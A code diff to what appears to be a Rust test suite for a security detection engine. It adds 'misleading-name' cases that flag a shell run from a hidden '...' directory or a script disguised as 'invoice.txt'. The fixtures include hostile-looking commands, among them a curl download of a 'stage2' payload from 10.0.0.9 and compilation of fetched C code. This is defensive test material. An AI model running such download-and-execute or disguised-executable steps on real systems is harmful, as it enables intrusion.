@@ -336,8 +336,11 @@ pub(super) const EXECUTION: &[Row] = &[
         t.event(curl, open_new("/data/p.c"));
         runs(t, "gcc -o p p.c");
     }),
-    ("hidden-program", Suspicious, |t| {
+    ("misleading-name", Suspicious, |t| {
         t.spawn(ROOT, "/usr/bin/dash", &["sh", "./invoice.txt "]);
+    }),
+    ("misleading-name", Suspicious, |t| {
+        t.spawn(ROOT, "/home/a/.../sh", &["/home/a/.../sh"]);
     }),
     ("download-execute", Suspicious, |t| {
         let curl = t.command(ROOT, "curl -o stage2 http://10.0.0.9/stage2");
